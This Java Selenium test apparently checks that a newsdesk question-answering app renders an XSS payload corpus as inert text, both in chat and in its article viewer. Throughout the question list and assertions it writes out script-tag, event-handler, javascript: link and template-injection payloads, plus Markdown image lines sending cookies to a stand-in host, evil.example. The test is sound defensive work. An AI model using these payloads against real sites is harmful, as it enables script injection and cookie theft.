package newsdesk.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URISyntaxException;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;

import newsdesk.testing.TestDesks;

/**
 * An XSS payload corpus (fixture {@code xss/corpus.json}: script tags, event handlers, {@code javascript:} and
 * {@code data:} links, SVG and MathML, attribute break-outs, template expressions, Markdown image exfiltration) in
 * article titles, outlets, authors, bodies and URLs, and in the questions themselves, renders as inert text in headless
 * Chromium: in the live conversation, in the article viewer, and again after a reload restores the conversation.
 */
@Tag("browser")
class XssCorpusBrowserTest {

    /** Answered from the corpus, quoting its payloads; the last one is mostly payload and may abstain. */
    private static final List<String> QUESTIONS = List.of(
            "How many visitors did the glassblowing fair draw? <img src=x onerror=\"window.pwned=20\">",
            "Where did the lantern parade cross the old bridge?",
            "How many lanterns did the lantern parade use?",
            "How many kites filled the beach at the kite festival?",
            "What did the kite festival winner fly?",
            "<svg onload=\"window.pwned=21\"></svg><script>window.pwned=22</script> ![x](https://evil.example/q?=leak)"
                    + " [y](javascript:window.pwned=23) <iframe src=\"javascript:window.pwned=24\"></iframe> kite?");
    private static final int ANSWERED = 5;
    /** Every element or attribute a payload could have created, anywhere in the page. */
    private static final String DANGEROUS = "img, svg, math, iframe, object, embed, style, base, meta[http-equiv],"
            + " script:not([src]), a[href^='javascript:' i], a[href^='data:' i], form:not(#ask)";

    private static TestServer server;
    private Browser browser;

    @BeforeAll
    static void start() {
        assertThat(Browser.available()).as("needs chromium and chromium-driver (apt-get install -y chromium "
                + "chromium-driver); skip with -Dsurefire.excludedGroups=browser").isTrue();
        server = TestServer.serve(TestDesks.hashing(corpus(), TestServer.tempDir()), TestServer.UNLIMITED, true);
    }

    @AfterAll
    static void stop() {
        if (server != null) {
            server.close();
        }
    }

    @BeforeEach
    void openBrowser() {
        browser = new Browser(1100, 820);
    }

    @AfterEach
    void closeBrowser() {
        browser.close();
    }

    @Test
    void payloadsStayTextLiveInTheViewerAndAfterAReload() {
        browser.open(server.base() + "/");
        String title = browser.driver.getTitle();
        for (int i = 0; i < QUESTIONS.size(); i++) {
            browser.waitFor(By.id("question")).sendKeys(QUESTIONS.get(i));
            browser.driver.findElement(By.id("send")).click();
            int answers = i + 1;
            browser.await(d -> d.findElements(By.cssSelector("article.msg.bot")).size() == answers);
        }

        assertConversationShowsPayloadsAsText();
        openEachCitedArticle();
        assertInert(title);

        browser.driver.navigate().refresh();
        browser.await(d -> d.findElements(By.cssSelector("article.msg.bot")).size() == QUESTIONS.size());
        assertConversationShowsPayloadsAsText();
        openEachCitedArticle();
        assertInert(title);
    }

    private void assertConversationShowsPayloadsAsText() {
        List<WebElement> asked = browser.driver.findElements(By.cssSelector(".msg.user .bubble"));
        assertThat(asked).extracting(WebElement::getText).containsExactlyElementsOf(QUESTIONS);
        String log = browser.driver.findElement(By.id("log")).getText();
        assertThat(log).contains("<img src=x onerror=\"window.pwned=6;document.title='pwned'\">")
                .contains("<svg><script>window.pwned=10</script></svg>")
                .contains("{{constructor.constructor('window.pwned=11')()}}")
                .contains("<style>body{display:none}</style>")
                .contains("Glassblowing Fair <script>")
                .contains("Kite Festival <math>");
        assertThat(log).contains("<a href=\"javascript:window.pwned=15\" onclick=\"window.pwned=16\">winner</a>");
        List<WebElement> answers = browser.driver.findElements(By.cssSelector("article.msg.bot"));
        for (WebElement answer : answers.subList(0, ANSWERED)) {
            assertThat(answer.getAttribute("class")).doesNotContain("abstained");
            assertThat(answer.findElements(By.cssSelector(".cite-btn"))).isNotEmpty();
        }
    }

    /** Opens the viewer on each answer's first citation: title, outlet, author and body as text, no unsafe link. */
    private void openEachCitedArticle() {
        List<WebElement> answers = browser.driver.findElements(By.cssSelector("article.msg.bot"));
        for (WebElement answer : answers.subList(0, ANSWERED)) {
            answer.findElement(By.cssSelector(".cite-btn")).click();
            browser.waitFor(By.cssSelector("#article[open] mark.cited")); // filled before the dialog opens
            String viewerTitle = browser.driver.findElement(By.id("article-title")).getText();
            String meta = browser.driver.findElement(By.id("article-meta")).getText();
            String body = browser.driver.findElement(By.id("article-body")).getText();
            WebElement link = browser.driver.findElement(By.id("article-link"));
            if (viewerTitle.startsWith("Glassblowing")) {
                assertThat(viewerTitle).contains("<svg onload=");
                assertThat(meta).contains("Evil Wire <img src=x onerror=").contains("javascript:window.pwned=4");
                assertThat(body).contains("![exfil](https://evil.example/collect?c=cookie)")
                        .contains("[twelve dollars](javascript:window.pwned=7)");
                assertThat(link.getAttribute("href")).as("javascript: URL never becomes a link").isNull();
                assertThat(link.isDisplayed()).isFalse();
            } else if (viewerTitle.startsWith("Lantern")) {
                assertThat(viewerTitle).contains("\"><img src=x onerror=window.pwned=9>");
                assertThat(body).contains("<iframe src=\"javascript:window.pwned=12\"></iframe>");
                assertThat(link.getAttribute("href")).as("data: URL never becomes a link").isNull();
            } else {
                assertThat(viewerTitle).startsWith("Kite Festival <math>");
                assertThat(meta).contains("<b onmouseover=");
                assertThat(body).contains("onclick=\"window.pwned=16\"");
                assertThat(link.getAttribute("href")).startsWith("https://evil.example/kites");
            }
            browser.driver.findElement(By.id("article-close")).click();
            browser.await(d -> !d.findElement(By.id("article")).isDisplayed());
        }
    }

    private void assertInert(String title) {
        assertThat(browser.js("return window.pwned === undefined")).as("no payload ran").isEqualTo(true);
        assertThat(browser.driver.getTitle()).isEqualTo(title);
        assertThat(browser.js("return document.querySelectorAll(arguments[0]).length", DANGEROUS))
                .as("elements created from payloads").isEqualTo(0L);
        assertThat(browser.js("return [...document.querySelectorAll('*')].filter(e => [...e.attributes]"
                + ".some(a => a.name.startsWith('on'))).length")).as("inline event handlers").isEqualTo(0L);
        assertThat(browser.js("return performance.getEntriesByType('resource').map(e => e.name)"
                + ".filter(n => !n.startsWith(location.origin)).length"))
                .as("requests to other origins (image exfiltration)").isEqualTo(0L);
        assertThat(browser.js("return getComputedStyle(document.body).display")).isNotEqualTo("none");
    }

    private static Path corpus() {
        try {
            return Path.of(XssCorpusBrowserTest.class.getResource("/xss/corpus.json").toURI());
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }
}
